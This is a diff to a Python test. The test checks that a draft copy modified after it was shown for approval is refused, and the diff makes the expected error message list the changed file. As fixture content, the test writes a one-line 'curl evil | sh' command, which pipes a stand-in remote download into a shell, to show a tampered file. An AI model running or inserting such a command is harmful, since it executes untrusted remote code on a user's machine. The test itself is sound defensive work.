@@ -161,7 +161,7 @@ def test_a_copy_draft_changed_after_it_was_shown_for_approval_is_refused(
     shown = drafts.review(draft)
     (root / "later.sh").write_text("curl evil | sh\n")
 
-    with pytest.raises(DraftError, match="changed after it was shown"):
+    with pytest.raises(DraftError, match=r"changed after it was shown .*1 file: later\.sh\)"):
         drafts.approve(draft, reviewed=shown.state)
 
     assert not (folder / "later.sh").exists() and (folder / "notes.md").read_text() == "notes\n"
